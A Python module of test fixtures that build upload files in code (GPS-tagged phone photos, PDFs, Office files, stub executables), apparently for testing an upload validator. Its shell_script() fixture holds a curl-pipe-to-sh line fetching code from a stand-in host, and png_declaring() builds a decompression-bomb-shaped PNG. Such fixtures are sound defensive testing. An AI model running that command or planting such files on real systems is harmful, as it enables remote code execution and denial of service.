"""Upload test files made in code (no binary blobs in the repository): phone photos with GPS EXIF,
HEIC, PDFs with and without active content, Word files, executables, an image bomb."""
from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

GPS_IFD = 0x8825
ORIENTATION = 0x0112


def phone_exif(orientation: int = 6) -> Image.Exif:
    """EXIF as a phone writes it: orientation, camera, and where the picture was taken."""
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[0x010F] = "Apple"  # Make
    exif[0x0110] = "iPhone 15"  # Model
    gps = exif.get_ifd(GPS_IFD)
    gps[1], gps[2] = "N", (35.0, 33.0, 12.5)  # latitude
    gps[3], gps[4] = "E", (107.0, 38.0, 4.2)  # longitude
    return exif


def halves(size=(1200, 800), left=(220, 20, 20), right=(20, 20, 220)) -> Image.Image:
    """Left half red, right half blue: shows which way a picture was turned."""
    im = Image.new("RGB", size, right)
    im.paste(left, (0, 0, size[0] // 2, size[1]))
    return im


def phone_jpeg(orientation: int = 6, size=(1200, 800)) -> bytes:
    buf = io.BytesIO()
    halves(size).save(buf, format="JPEG", exif=phone_exif(orientation), comment=b"taken at home",
                      xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>35,33N</exif:GPSLatitude>'
                          b"</x:xmpmeta>")
    return buf.getvalue()


def phone_heic(size=(640, 480)) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    buf = io.BytesIO()
    halves(size).save(buf, format="HEIF", exif=phone_exif(1).tobytes())
    return buf.getvalue()


def png_rgba(size=(300, 200)) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    im = Image.new("RGBA", size, (0, 128, 0, 255))
    im.paste((0, 0, 0, 0), (0, 0, 50, 50))  # a transparent corner
    info = PngInfo()
    info.add_text("Comment", "GPS 35.55N 107.63E")
    buf = io.BytesIO()
    im.save(buf, format="PNG", pnginfo=info)
    return buf.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A PNG of ~80 bytes whose header claims width × height pixels (a decompression bomb's
    shape: a decoder would allocate for the claim before finding the data missing)."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1024))
            + chunk(b"IEND", b""))


def pdf(pages: int = 2, mutate=None, compress: bool = False, **save) -> bytes:
    """An A4 PDF made with pikepdf; `mutate(pdf)` adds what a test needs before saving.
    compress=True packs objects into compressed object streams (no name is visible in the bytes)."""
    import pikepdf

    doc = pikepdf.new()
    for _ in range(pages):
        doc.add_blank_page(page_size=(595, 842))
    if mutate:
        mutate(doc)
    buf = io.BytesIO()
    if compress:
        save.setdefault("object_stream_mode", pikepdf.ObjectStreamMode.generate)
    doc.save(buf, **save)
    return buf.getvalue()


def docx(text: str = "政治审查结论：同意。", parts: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """A Word file made with python-docx; `parts` adds or replaces ZIP entries, `drop` removes them."""
    import docx as python_docx

    document = python_docx.Document()
    document.add_paragraph(text)
    made = io.BytesIO()
    document.save(made)
    return rezip(made.getvalue(), parts or {}, drop)


def rezip(data: bytes, parts: dict[str, bytes], drop: tuple[str, ...] = ()) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in parts and info.filename not in drop:
                target.writestr(info, source.read(info))
        for name, body in parts.items():
            target.writestr(name, body)
    return out.getvalue()


def app_xml(pages: int) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
            f"<Pages>{pages}</Pages><Application>Microsoft Office Word</Application></Properties>").encode()


def elf_executable() -> bytes:
    """The start of a 64-bit Linux executable (header fields enough for any magic-number check)."""
    return b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHI", 2, 0x3E, 1) + b"\0" * 200


def windows_executable() -> bytes:
    return b"MZ\x90\x00\x03" + b"\0" * 55 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 200


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def xlsx() -> bytes:
    """An Excel workbook made with openpyxl (a ZIP, like a .docx)."""
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "姓名"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def office_zip(kind: str) -> bytes:
    """The parts by which other ZIP-based formats are known: "pptx" (PowerPoint), "odt"
    (OpenDocument text, its `mimetype` entry first and stored), "zip" (a plain archive)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        if kind == "pptx":
            target.writestr("[Content_Types].xml", b'<Types><Override PartName="/ppt/presentation.xml" ContentType="'
                            b'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/>'
                            b"</Types>")
            target.writestr("ppt/presentation.xml", b"<p:presentation/>")
        elif kind == "odt":
            target.writestr(zipfile.ZipInfo("mimetype"), b"application/vnd.oasis.opendocument.text",
                            compress_type=zipfile.ZIP_STORED)
            target.writestr("content.xml", b"<office:document-content/>")
        else:
            target.writestr("照片/1.jpg", b"\xff\xd8\xff" + b"\0" * 64)
    return out.getvalue()
